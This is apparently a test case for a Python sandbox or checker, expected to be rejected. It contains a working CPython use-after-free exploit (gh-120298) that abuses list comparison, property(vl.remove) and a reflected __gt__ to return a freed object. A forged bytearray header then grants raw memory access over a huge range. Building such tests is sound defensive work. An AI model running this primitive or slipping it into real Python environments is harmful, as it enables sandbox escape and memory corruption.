# expect: reject memory
# line: 12
# verified: plain python3 3.11.2: prints 'bytearray 0x4000000000000000'
# why: gh-120298 with no call in __lt__: an attribute read runs property(vl.remove), the list's own method as the getter; and the reflected __gt__ returns the freed item in a tuple instead of storing it
keep = []
W = lambda v: v.to_bytes(8, "little")
FAKE = (W(0) + W(0) + W(1 << 40) + W(id(bytearray)) + W(1 << 62) + W(1 << 62)
        + W(0) + W(0) + W(1))[:73]
vl = []
class V:
    __slots__ = ("a", "b", "c", "d", "e", "f")
    gone = property(vl.remove)
    def __eq__(s, o): return False
    def __lt__(s, o):
        return s.gone or NotImplemented
class Wc:
    def __eq__(s, o): return False
    def __gt__(s, o):
        b = bytearray(FAKE)
        return (o, b)
def raw_memory():
    w = Wc()
    vl.append(V())
    r = vl < [w]
    keep.append(r)
    return r[0]
mem = raw_memory()
print(type(mem).__name__, hex(len(mem)))
